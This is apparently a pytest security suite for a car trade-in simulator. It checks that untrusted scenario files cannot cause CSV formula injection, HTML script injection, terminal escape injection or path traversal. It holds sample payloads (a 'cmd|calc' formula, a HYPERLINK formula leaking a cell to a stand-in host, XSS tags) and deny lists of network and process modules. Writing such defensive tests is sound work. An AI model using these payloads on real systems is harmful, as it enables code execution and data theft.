"""What a scenario from a stranger must not do: run, reach out, forge an answer, tell on others."""

import ast
import csv
import io
import json
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest

import tradein
from helpers.command import BASE, NEVER, Ran, apart, found_in, here
from tradein.report import text
from tradein.report.tables.table import Column, Dollars, Table
from tradein.visible import unseen

SOURCE = Path(tradein.__file__).parent
MODULES = {
    str(path.relative_to(SOURCE)): ast.parse(path.read_text()) for path in SOURCE.rglob("*.py")
}

SIGNS = "=+-@＝＋－＠"
COMMANDS = (
    "cmd|'/c calc'!A1",
    "1+1",
    'HYPERLINK("http://e/?"&A1,"x")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    'a",=1+1',
    "-1",
)
FORMULAS = [sign + command for sign in SIGNS for command in COMMANDS]
"""Forty-eight names that a spreadsheet would run."""

HARMLESS = [
    "a=b",
    'a",=1+1',
    "it's",
    "'=1",
    "1,234.50",
    ",,",
    '""',
    ";",
    "Café — 🚗",
    "http://e/",
    " a=1+1",
]
"""Names that stay as they are."""

MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title><svg onload=alert(1)>",
    "</style><script>x</script>",
    "</td></tr></table><table><tr><td>",
    "' onmouseover='x",
    "--><!-- <b>",
    "&lt;b&gt; &amp;",
    "{{7*7}}${7*7}<%=7*7%>",
    "a | b || c |} |- |+ ! d !! e",
    "\\input{x} & \\\\ \\hline % $x$ #1 ^ ~ _",
    "[[x]] {y} *z* `w` -_- ~~v~~",
    "|===\\|",
)


def quoted(name: str) -> str:
    """Write a name as YAML."""
    return json.dumps(name, ensure_ascii=False)


def chain(names: list[str]) -> str:
    """Write a chain of vehicles of those names, each kept for a month."""
    purchases = [
        f"  - {{vehicle: {quoted(name)}, price: 20000, down: 9000, tax: {{rate: 0%}}, "
        "keep: 1 months, loan: {apr: 5%, months: 48}}\n"
        for name in names
    ]
    return "title: Chain\npurchases:\n" + "".join(purchases)


@pytest.fixture
def folder(tmp_path, monkeypatch):
    """A folder of its own, with the base scenario in it, in a folder of its own."""
    inner = tmp_path / "inner"
    inner.mkdir()
    (inner / "ok.yaml").write_text(BASE)
    monkeypatch.chdir(inner)
    monkeypatch.delenv("COLUMNS", raising=False)
    return inner


def answer(capture, *arguments: str) -> str:
    """Give the answer of a run that works."""
    ran = here(capture, *arguments)
    assert ran.code == 0, ran.err
    return ran.out


def calls(tree: ast.AST) -> set[str]:
    """List what a module calls, as it is written."""
    return {ast.unparse(node.func) for node in ast.walk(tree) if isinstance(node, ast.Call)}


def imported(tree: ast.AST) -> set[str]:
    """List the modules that a module imports, by their first names."""
    modules = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            modules |= {alias.name.partition(".")[0] for alias in node.names}
        elif isinstance(node, ast.ImportFrom) and not node.level:
            modules.add((node.module or "").partition(".")[0])
    return modules


def test_yaml_is_read_in_one_place_and_never_loaded():
    """Only source knows YAML, with what stands in for libyaml; there nothing is made but events.

    The page that needs no server packs the library's files, and reads nothing with it.
    """
    users = {name for name, tree in MODULES.items() if "yaml" in imported(tree)}
    used = {call for name in users for call in calls(MODULES[name]) if call.startswith("yaml.")}

    names = ("yaml_source", "plain_yaml")
    packed = os.path.join("page", "standalone.py")
    assert {packed, *(os.path.join("scenario", f"{name}.py") for name in names)} == users
    assert {"yaml.parse"} == used


FORBIDDEN_MODULES = {
    *("asyncio", "ctypes", "dbm", "ftplib", "http", "imaplib", "importlib", "marshal", "pickle"),
    *("multiprocessing", "poplib", "pty", "requests", "runpy", "shelve", "smtplib", "socket"),
    *("socketserver", "ssl", "subprocess", "telnetlib", "urllib", "webbrowser", "xmlrpc"),
}
FORBIDDEN_CALLS = re.compile(
    r"(eval|exec|compile|__import__|breakpoint|input)|"
    r"os\.(system|popen|fork\w*|exec\w*|spawn\w*|posix_spawn\w*|putenv|environ\.\w*set\w*)|"
    r".*\.(expandvars|expanduser|loads?_?all|unsafe_load|full_load)"
)

ALLOWED = {
    "__init__.py": {"importlib"},
    os.path.join("page", "server.py"): {"http", "socket", "socketserver"},
    os.path.join("cli", "commands", "page.py"): {"webbrowser"},
}
"""What some modules may import all the same: the local page is served, and opened if asked."""


@pytest.mark.parametrize("name", sorted(MODULES))
def test_no_module_reaches_out_or_runs_what_it_reads(name):
    """No network, no other process, no evaluated text, no pickles."""
    allowed = ALLOWED.get(name, set())

    assert not imported(MODULES[name]) & (FORBIDDEN_MODULES - allowed)
    assert not [call for call in calls(MODULES[name]) if FORBIDDEN_CALLS.fullmatch(call)]


WATCHED = """
import sys
def watch(event, details):
    if event.startswith(("socket.", "subprocess.", "os.system", "os.exec", "os.fork", "os.posix_spawn",
                         "os.spawn", "ctypes.", "pickle.", "webbrowser.", "urllib.")):
        print("FORBIDDEN", event, details, file=sys.stderr)
        raise RuntimeError(event)
    if event == "open" and isinstance(details[2], int) and details[2] & 3:
        print("WRITTEN", details[0], file=sys.stderr)
sys.addaudithook(watch)
from tradein.cli import main
for line in sys.argv[1:]:
    if main(line.split()):
        print("FAILED", line, file=sys.stderr)
"""


def test_a_run_opens_no_connection_starts_no_process_and_writes_one_file(folder):
    """Every command does its work under a watch on the whole interpreter."""
    lines = [
        "simulate ok.yaml",
        "simulate ok.yaml -o out.csv",
        "compare ok.yaml ok.yaml --format json",
        "equity --owed 2 --value 1",
        "check ok.yaml",
        "curves",
        "states",
        "schema",
        "--help",
        "simulate ok.yaml --format html",
    ]
    env = {**os.environ, "PYTHONDONTWRITEBYTECODE": "1", "COLUMNS": "80"}
    command = [sys.executable, "-c", WATCHED, *lines]
    done = subprocess.run(command, env=env, capture_output=True, text=True, check=False)

    assert "FORBIDDEN" not in done.stderr
    assert "FAILED" not in done.stderr
    written = re.findall("^WRITTEN (.*)$", done.stderr, re.MULTILINE)
    assert len(written) == 1
    assert written[0].startswith(f"{folder.resolve()}/.tradein-")
    assert {"ok.yaml", "out.csv"} == {path.name for path in folder.iterdir()}


def cells(out: str, column: str) -> list[str]:
    """Read one column of a csv."""
    return [row[column] for row in csv.DictReader(io.StringIO(out, newline=""), strict=True)]


def neutral(name: str) -> str:
    """Give a name as a spreadsheet may have it."""
    return f"'{name}" if name[0] in SIGNS else name


def test_formulas_in_vehicles_are_neutralised(capsys, folder):
    """Each name is one cell, with an apostrophe where it would be run; numbers stay numbers."""
    for names in (FORMULAS[:24], FORMULAS[24:] + HARMLESS):
        Path("bad.yaml").write_text(chain(names))
        Path("good.yaml").write_text(chain(["x"] * len(names)))
        bad, good = (
            answer(capsys, "simulate", f"{it}.yaml", "--format", "csv") for it in ("bad", "good")
        )

        assert [neutral(name) for name in names] == cells(bad, "vehicle")
        for column in good.splitlines()[0].split(","):
            assert column == "vehicle" or cells(good, column) == cells(bad, column)
        assert min(float(cash) for cash in cells(bad, "cash_to_exit")) < 0


def test_formulas_in_titles_are_neutralised(capsys, folder):
    """So are titles, in the leading column of several files and in a comparison."""
    names = [*FORMULAS, *HARMLESS]
    files = [f"{number}.yaml" for number in range(len(names))]
    for file, name in zip(files, names, strict=True):
        Path(file).write_text(chain(["x"]).replace("Chain", quoted(name)))
    told = answer(capsys, "simulate", *files, "--format", "csv")
    pairs = zip(files[::2], files[1::2], strict=False)
    compared = [answer(capsys, "compare", *pair, "--format", "csv") for pair in pairs]

    expected = [neutral(name) for name in names]
    assert expected == list(dict.fromkeys(cells(told, "scenario")))
    assert expected[: 2 * len(compared)] == [
        name for out in compared for name in cells(out, "scenario")
    ]


def test_formulas_in_positions_are_neutralised(capsys, folder):
    """And what is owned, in a file of positions."""
    names = [*FORMULAS, *HARMLESS]
    items = [f"  - {{what: {quoted(name)}, owed: 20000, value: 15000}}\n" for name in names]
    Path("p.yaml").write_text("positions:\n" + "".join(items))
    out = answer(capsys, "equity", "p.yaml", "--format", "csv")
    first = out.splitlines()[0].split(",")[0]

    assert [neutral(name) for name in names] == cells(out, first)[: len(names)]
    assert {"-5000.00"} == set(cells(out, "equity")[: len(names)])


@pytest.mark.parametrize("lead", ["\t", "\r", "\n", "\0", *SIGNS])
def test_whatever_begins_a_formula_is_neutralised(lead):
    """The writer of csv itself holds for text that a file could not even bring in."""
    table = Table(
        "t", [Column("what", "what"), Column("gap", "gap")], [[f"{lead}1+1", Dollars(-315_025)]]
    )
    out = text.csv(table, [f"{lead}x"])
    row = list(csv.reader(io.StringIO(out.replace("\0", "NUL"), newline="")))[1]

    assert [f"'{lead}x".replace("\0", "NUL"), f"'{lead}1+1".replace("\0", "NUL"), "-3150.25"] == row


SEQUENCES = (
    "\x1b[2J",
    "\x1b]0;title\x07",
    "\x1b]8;;http://e/\x1b\\x",
    "\x9b2J",
    "\x90q\x9c",
    "\x07",
    "\x08\x08",
    "\x7f",
    "\x00",
    "\r",
    "\x0b\x0c",
    "\x85",
    "\xad",
    "\u061c",
    "\u200b",
    "\u200d",
    "\u200e\u200f",
    "\u2028",
    "\u2029",
    "\u202a\u202e",
    "\u2066\u2069",
    "\u2060",
    "\ufeff",
    "\ufff9",
    "\U000e0041",
)
"""What a terminal would obey, or nobody would see."""

SPOTS = (
    "title: {}\npurchases: []\n",
    "about: {}\n",
    "start: {}\n",
    "{}: 1\n",
    "{0}: 1\n{0}: 2\n",
    "purchases:\n  - vehicle: {}\n",
    "purchases:\n  - price: {}\n",
    "purchases:\n  - {}: 1\n",
    "purchases:\n  - keep: {}\n",
    "purchases:\n  - fees: {{{}: 1}}\n",
    "purchases:\n  - fees: {{doc: {}}}\n",
    "purchases:\n  - loan: {{apr: {}, months: 3}}\n",
    "purchases:\n  - loan: {{interest: {}}}\n",
    "purchases:\n  - value: {{curve: {}}}\n",
    "purchases:\n  - value: {{table: {{{}: 50%}}}}\n",
    "purchases:\n  - tax: {{taxes: [{}]}}\n",
    "purchases:\n  - tax: {{rebate_taxed: {}}}\n",
    "purchases:\n  - trade_in: {{cash: {}}}\n",
    "positions:\n  - what: {}\n",
    "market: {{{}: 100%}}\n",
)
"""Places in a file where a stranger's text may come into a message; braces are doubled."""


def spotted(spot: str, name: str) -> bytes:
    """Write a file with a text at a spot."""
    return spot.format(name).encode()


def unsafe(ran: Ran) -> set[str]:
    """List the characters that should not have reached a terminal."""
    return {c for c in (ran.out + ran.err).replace("\n", "") if unseen(c)}


@pytest.mark.parametrize("spot", SPOTS)
def test_no_terminal_obeys_a_file(spot, capsys, folder):
    """Escaped or as it is, no sequence in a file gets to the terminal."""
    for number, sequence in enumerate(SEQUENCES):
        escaped = '"a' + "".join(f"\\U{ord(c):08x}" for c in sequence) + 'b"'
        for name in (escaped, f"a{sequence}b", f"'{sequence}'"):
            Path(f"{number}.yaml").write_bytes(spotted(spot, name))
            ran = here(capsys, "check", f"{number}.yaml")

            assert not unsafe(ran)
            assert not [word for word in NEVER if word in ran.err]


def test_no_terminal_obeys_a_command_line(capsys, folder):
    """Nor one in an argument or the name of a file, whether it is there or not."""
    Path("ok.yaml").write_text(BASE)
    for sequence in (s for s in SEQUENCES if "\0" not in s):
        name = f"a{sequence}b.yaml".replace("/", "")
        Path(name).write_text("a: 1\n")
        for arguments in (
            [sequence],
            ["check", name],
            ["check", sequence],
            ["check", f"a{sequence}.yaml"],
            ["simulate", "ok.yaml", f"--{sequence}"],
            ["simulate", "ok.yaml", "--format", sequence],
            ["simulate", "ok.yaml", "-o", f"{sequence}/x.csv"],
            ["simulate", "ok.yaml", "-o", f"x.{sequence}"],
            ["equity", "--owed", sequence, "--value", "1"],
            ["compare", "ok.yaml", name, "--at", sequence],
            ["curves", sequence],
            ["states", sequence],
            ["simulate", "ok.yaml", "-o", sequence, "-o", sequence],
            ["new", name],
            ["new", f"{sequence}/x"],
        ):
            ran = here(capsys, *arguments)

            assert ran.code in {2, 3, 4}
            assert not unsafe(ran), arguments
        Path(name).write_text(BASE.replace("title: Two cars\n", ""))
        assert not unsafe(here(capsys, "simulate", name))


def no_such_number(name: str) -> None:
    """Refuse what is no JSON."""
    raise ValueError(name)


@pytest.mark.parametrize(
    "arguments",
    [
        ["simulate", "ok.yaml"], ["simulate", "ok.yaml", "names.yaml"], ["compare", "ok.yaml", "names.yaml"],
        ["equity", "--owed", "20000", "--value", "0"], ["equity", "p.yaml"], ["curves"], ["states"], ["schema"],
        ["disclose", "ok.yaml", "names.yaml"],
        ["payoff", "match.yaml", "--on", "2026-05-01"], ["match", "match.yaml"],
    ],
    ids=" ".join,
)  # fmt: skip
def test_json_is_strict_and_plain(arguments, capsys, folder):
    """JSON has no NaN, nothing but ASCII, no name twice, and gives names back as they were."""
    names = [*MARKUP, "Café — 🚗", "\u2603"]
    Path("names.yaml").write_text(chain(names))
    Path("p.yaml").write_text("positions: [{what: Café, owed: 20000, value: 0}]\n")
    Path("match.yaml").write_text(f"{BASE}statements: [{{date: 2026-05-01, balance: $20000}}]\n")
    more = [] if arguments == ["schema"] else ["--format", "json"]
    out = answer(capsys, *arguments, *more)

    def unique(pairs):
        assert len(dict(pairs)) == len(pairs)
        return dict(pairs)

    document = json.loads(out, parse_constant=no_such_number, object_pairs_hook=unique)
    assert out.isascii()
    if arguments == ["simulate", "ok.yaml", "names.yaml"]:
        assert names == [purchase["vehicle"] for purchase in document["scenarios"][1]["purchases"]]


def test_no_json_has_a_number_that_is_none():
    """What is no number is refused rather than written."""
    with pytest.raises(ValueError, match="not JSON compliant"):
        text.json({"gap": float("nan")})


PATHS = (
    "../../../x",
    "/etc/cron.d/x",
    "a/b",
    "..",
    "x.yaml ",
    "~/x",
    "$HOME/x",
    "C:\\x",
    "CON",
    ".x",
    "-o",
)


@pytest.mark.parametrize("name", PATHS)
def test_titles_never_name_files(name, capsys, folder):
    """Whatever a scenario or its vehicles are called, only the file that is asked for is written."""
    Path("s.yaml").write_text(chain([name]).replace("Chain", quoted(name)))
    for ending in ("csv", "json", "html", "txt"):
        before = found_in(folder.parent)
        answer(capsys, "simulate", "s.yaml", "-o", f"out.{ending}")

        assert {str(folder / f"out.{ending}")} == set(found_in(folder.parent)) - set(before)


def test_an_output_is_where_it_was_named(capsys, folder):
    """No home and no variable is looked up in the name of a file, and folders are not made."""
    before = found_in(folder.parent)
    for name in ("~/x.csv", "$HOME/x.csv", "%TEMP%/x.csv", "a/../b/x.csv"):
        ran = here(capsys, "simulate", "ok.yaml", "-o", name)

        assert (4, True) == (ran.code, "create it first" in ran.err)
    assert before == found_in(folder.parent)


def test_a_starter_never_replaces_a_scenario(capsys, folder):
    """Without --force what is there stays, be it a link to nothing."""
    Path("link.yaml").symlink_to("nowhere.yaml")
    before = found_in(folder)

    assert [4, 4] == [here(capsys, "new", name).code for name in ("ok.yaml", "link.yaml")]
    assert before == found_in(folder)
    assert 0 == here(capsys, "new", "ok.yaml", "--force").code


def test_messages_show_little_of_what_was_written(capsys, folder):
    """Of a value, a key or an argument no more than sixty characters are told, and of others nothing."""
    long, secret = "x" * 900, "0123456789 Elm Street"
    for spot in SPOTS:
        for name in (long, f'"{long}"', f"!{long} y", f"*{long}", f"&{long} y"):
            Path("s.yaml").write_bytes(f"about: {secret}\n".encode() + spotted(spot, name))
            ran = here(capsys, "check", "s.yaml")

            assert not re.search("x{61}", ran.err), ran.err
            assert secret not in ran.err or spot.startswith(("about", "positions"))
    for arguments in (
        [long],
        ["check", "ok.yaml", f"--{long}"],
        ["curves", long],
        ["states", long],
        ["equity", "--owed", long, "--value", "1"],
    ):
        assert not re.search("x{61}", here(capsys, *arguments).err)


class Elements(HTMLParser):
    """Notes every element with its attributes, and the text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements, self.text = [], ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, tuple(attrs)))

    def handle_endtag(self, tag):
        self.elements.append((f"/{tag}", ()))

    def handle_comment(self, data):
        self.elements.append(("comment", ()))

    def handle_data(self, data):
        self.text += data


@pytest.mark.parametrize("style", ["html", "unsafehtml"])
def test_markup_in_names_is_shown_literally(style, capsys, folder):
    """A page has the elements it would have with other names, and shows the names as they are."""
    Path("bad.yaml").write_text(chain(list(MARKUP)))
    Path("good.yaml").write_text(chain(["x"] * len(MARKUP)))
    bad, good = (
        Elements(answer(capsys, "simulate", f"{it}.yaml", "--format", style))
        for it in ("bad", "good")
    )

    assert good.elements == bad.elements
    assert all(name in bad.text for name in MARKUP)


BARRED = ("asciidoc", "github", "jira", "mediawiki", "moinmoin", "pipe", "textile")


def skeleton(out: str, style: str) -> list[int]:
    """Count what divides the cells, line by line: as many where names have done no harm."""
    if style in BARRED:
        return [len(re.findall(r"(?<!\\)\|", line)) for line in out.splitlines()]
    if style.startswith("latex"):
        return [len(re.findall(r"(?<!\\)&|\\\\|\\hline", line)) for line in out.splitlines()]
    return [line.count("\t") for line in out.splitlines()]


@pytest.mark.parametrize("style", text.formats())
def test_no_name_breaks_a_table(style, capsys, folder):
    """Whatever the format, rows and cells are those of a table with other names."""
    Path("bad.yaml").write_text(chain(list(MARKUP)))
    Path("good.yaml").write_text(chain(["x" * len(name) for name in MARKUP]))
    bad, good = (
        answer(capsys, "simulate", f"{it}.yaml", "--format", style) for it in ("bad", "good")
    )

    assert skeleton(good, style) == skeleton(bad, style)


def test_colour_is_for_terminals_alone(folder):
    """No escape sequence is in an answer that goes into a file or a pipe, or where none is wanted."""
    assert "\x1b" not in apart("simulate", "ok.yaml", env={"TERM": "xterm-256color"}).out
